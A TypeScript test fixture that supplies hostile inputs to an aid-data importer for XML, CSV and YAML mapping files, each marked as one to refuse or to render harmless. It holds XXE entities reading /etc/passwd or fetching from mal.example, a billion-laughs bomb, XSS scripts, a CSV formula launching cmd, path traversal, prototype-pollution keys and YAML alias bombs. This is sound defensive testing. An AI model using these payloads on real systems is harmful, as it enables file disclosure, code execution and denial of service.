import { activities, activity } from '../../unit/import/importing.ts';
import { each, type HostileInput } from './hostile-input.ts';

const asFile = (data: string) => ({ kind: 'import', data }) as const;
const inActivity = (inside: string) => asFile(activities(activity(inside)));
const asTitle = (title: string) => asFile(activities(activity('').replace('Agua limpia', () => title)));
const asIdentifier = (id: string) => asFile(activities(activity('').replace('XE-1-A', () => id)));

const mapping = 'columns:\n  title: titulo\n  identifier: clave\n  countries: pais\n';
const asCsv = (data: string) => ({ kind: 'import', data, mapping }) as const;
const asMapping = (text: string) => ({ kind: 'mapping', text }) as const;

const whole = activities(activity(''));
const bomb = Array.from({ length: 9 }, (_, n) => `<!ENTITY e${n + 1} "${`&e${n};`.repeat(10)}">`).join('');

/** Files of other registers, which anyone may have published. */
export const imports: readonly HostileInput[] = [
  ...each('refused', asFile, {
    'a bomb of entities': `<!DOCTYPE x [<!ENTITY e0 "ja">${bomb}]>\n<iati-activities version="2.03">&e9;</iati-activities>`,
    'an entity of a file':
      '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><iati-activities>&y;</iati-activities>',
    'an entity of another host':
      '<!DOCTYPE x [<!ENTITY y SYSTEM "http://mal.example/">]><iati-activities>&y;</iati-activities>',
    'an entity of parameters':
      '<!DOCTYPE x [<!ENTITY % y SYSTEM "http://mal.example/x.dtd">%y;]><iati-activities/>',
    'a document type elsewhere': '<!DOCTYPE x SYSTEM "http://mal.example/x.dtd"><iati-activities/>',
    'a page': '<html><script>alert(1)</script></html>',
    'a drawing': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'an included file': '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
    'a style sheet': '<?xml-stylesheet href="javascript:alert(1)"?><x/>',
    nothing: '',
    JSON: '{"__proto__": {"a": 1}}',
    'elements in elements': activities('<a>'.repeat(200_000)),
    'a long attribute': whole.replace('"BO"', `"${'x'.repeat(500_000)}"`),
    'a long name of an element': activities(`<${'a'.repeat(500_000)}/>`),
    'many attributes': whole.replace(
      'code="BO"',
      Array.from({ length: 50_000 }, (_, n) => `a${n}="1"`).join(' '),
    ),
    'a comment without an end': `${whole.slice(0, 100)}<!--${'-'.repeat(500_000)}`,
    'a section without an end': `${whole.slice(0, 100)}<![CDATA[${']'.repeat(500_000)}`,
    'an attribute twice': whole.replace('"BO"', '"BO" __proto__="a" __proto__="b"'),
    'a zero': whole.replace('Pozos', 'Po\u0000zos'),
    'a command of a terminal': whole.replace('Pozos', 'Po\u001b[2Jzos'),
    'half a character': whole.replace('Pozos', 'Po&#xD800;zos'),
  }),
  ...each('harmless', asTitle, {
    'a script in a title': '&lt;script&gt;alert(1)&lt;/script&gt;',
    'a script in a section of a title': '<![CDATA[<script>alert(1)</script>]]>',
    'a formula in a title': '=cmd|&apos; /C calc&apos;!A0',
    'fields in a title': 'a&#10;---&#10;title: otro&#10;---&#10;{alert(1)}',
    'an alias in a title': '*a &amp;a !!js/function x',
    'an override of the direction in a title': 'a&#x202e;b',
    'a command of eight bits in a title': 'a&#x9b;2Jb',
    'a runner in a title': '::error::x',
    'accents in a title': `a${'&#x301;'.repeat(5000)}`,
    'a long title': 'a '.repeat(9000),
  }),
  ...each('harmless', asIdentifier, {
    'a path for an identifier': '../../../../etc/passwd',
    'a prototype for an identifier': '__proto__',
    'what all objects have for an identifier': 'constructor',
    'a device for an identifier': 'CON',
    'an address of ours for an identifier': 'admin',
    'signs for an identifier': '"&gt;&lt;script&gt;',
    'a long identifier': 'X'.repeat(400),
  }),
  ...each('harmless', inActivity, {
    'an import in a description':
      '<description type="2"><narrative>import fs from "fs"</narrative></description>',
    'an expression in a description':
      '<description type="2"><narrative>{process.exit(1)}</narrative></description>',
    'a link that runs in a description':
      '<description type="2"><narrative>[x](javascript:alert(1)) &lt;a href="javascript:x"&gt;</narrative></description>',
    'a component in a description':
      '<description type="2"><narrative>&lt;Image file="../x" alt="x" /&gt;</narrative></description>',
    'a document that runs':
      '<document-link url="javascript:alert(1)" format="text/html"><title><narrative>x</narrative></title><category code="A01"/></document-link>',
    'a document with a user name':
      '<document-link url="https://a:b@mal.example/" format="text/html"><title><narrative>x</narrative></title><category code="A01"/></document-link>',
    'a document that ends a statement':
      '<document-link url="https://x.example/&gt; &lt;urn:p&gt;" format="text/html"><title><narrative>x</narrative></title><category code="A01"/></document-link>',
    'a page that runs': '<activity-website>javascript:alert(1)</activity-website>',
    'a date of nothing': '<activity-date type="2" iso-date="2011-02-30"/>',
    'a date of markup': '<activity-date type="2" iso-date="&lt;script&gt;"/>',
    'a budget without an end':
      '<budget><period-start iso-date="2011-01-01"/><period-end iso-date="2011-12-31"/><value value-date="2011-01-01">1e999</value></budget>',
    'a budget of many digits': `<budget><period-start iso-date="2011-01-01"/><period-end iso-date="2011-12-31"/><value value-date="2011-01-01">${'9'.repeat(400)}</value></budget>`,
    'a party of markup':
      '<participating-org role="1" ref="&lt;script&gt;"><narrative>&lt;img src=x onerror=alert(1)&gt;</narrative></participating-org>',
    'a party of a prototype':
      '<participating-org role="1" ref="__proto__"><narrative>__proto__</narrative></participating-org>',
    'a language of a prototype':
      '<description type="2"><narrative xml:lang="__proto__">x</narrative></description>',
    'a currency of all objects':
      '<budget><value currency="constructor" value-date="2011-01-01">1</value></budget>',
    'a name space of a prototype': '<__proto__:a xmlns:__proto__="urn:x"/>',
    'letters for tags': '<description type="2"><narrative>a\u{e0061}b</narrative></description>',
  }),
  ...each('harmless', asCsv, {
    'a formula in a cell': 'titulo,clave,pais\n"=cmd|\' /C calc\'!A0",a-1,BO\n',
    'a script in a cell': 'titulo,clave,pais\n<script>alert(1)</script>,a-1,BO\n',
    'fields in a cell': 'titulo,clave,pais\n"a\n---\ntitle: otro",a-1,BO\n',
    'a path in a cell': 'titulo,clave,pais\nx,../../etc/passwd,BO\n',
    'a prototype in a cell': 'titulo,clave,pais\n__proto__,__proto__,BO\n',
    'a column of a prototype': 'titulo,clave,pais,__proto__,constructor\nx,a-1,BO,y,z\n',
  }),
  ...each('refused', asCsv, {
    'a cell without an end': 'titulo,clave,pais\n"x,a-1,BO\n',
    'a row of one long cell': `titulo,clave,pais\n${'x'.repeat(3_000_000)},a-1,BO\n`,
    'a column twice': 'titulo,titulo,clave\nx,y,a-1\n',
    'no columns': '\n\n\n',
    'a zero in a cell': 'titulo,clave,pais\na\u0000b,a-1,BO\n',
  }),
  ...each('refused', asMapping, {
    'an alias in a mapping': 'columns: &a {x: *a}',
    'a bomb in a mapping': 'a: &a [x,x]\nb: &b [*a,*a]\ncolumns: *b',
    'a prototype in a mapping': 'columns: {title: x}\n__proto__: {a: b}',
    'a field of all objects in a mapping': 'columns: {constructor: x}',
    'a field of a prototype in a mapping': 'columns: {__proto__: x}',
    'lists in lists in a mapping': '['.repeat(20_000),
    'nothing in a mapping': '',
    'a tag in a mapping': 'columns: !!js/function x',
  }),
];
